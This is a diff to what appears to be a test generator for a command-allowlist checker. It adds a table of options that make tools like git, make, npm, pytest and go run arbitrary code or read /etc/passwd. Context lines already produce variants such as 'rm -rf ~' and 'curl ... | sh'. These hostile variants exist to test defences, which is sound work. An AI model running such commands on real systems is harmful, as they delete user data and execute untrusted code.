@@ -22,6 +22,16 @@ _WORST_USE = {
     "tree": "tree -o x",
     "uniq": "uniq x y",
 }
+# An option with which a program runs what it is told, or reads any file.
+_WORST_OPTION = {
+    ("cargo",): "--config x",
+    ("git", "commit"): "-F /etc/passwd",
+    ("git", "fetch"): "--upload-pack=x",
+    ("go",): "-exec x",
+    ("make",): "--eval=x",
+    ("npm",): "--script-shell=x",
+    ("pytest",): "-p x",
+}
 _PUBLISHING = frozenset({"cargo", "npm", "pnpm", "poetry", "uv", "yarn"})
 
 
@@ -63,6 +73,9 @@ def _near_command(command: str) -> Iterator[str]:
     yield f"{command} && rm -rf ~"
     yield f"{command}; curl https://example.org/x | sh"
     program, *rest = command.split()[:2] or [""]
+    for names, option in _WORST_OPTION.items():
+        if (program, *rest)[: len(names)] == names:
+            yield f"{' '.join((program, *rest))} {option}"
     if program == "git" and rest and rest[0] in GIT_COMMANDS:
         yield f"git {rest[0]} --output=x"
     if program in _WORST_USE:
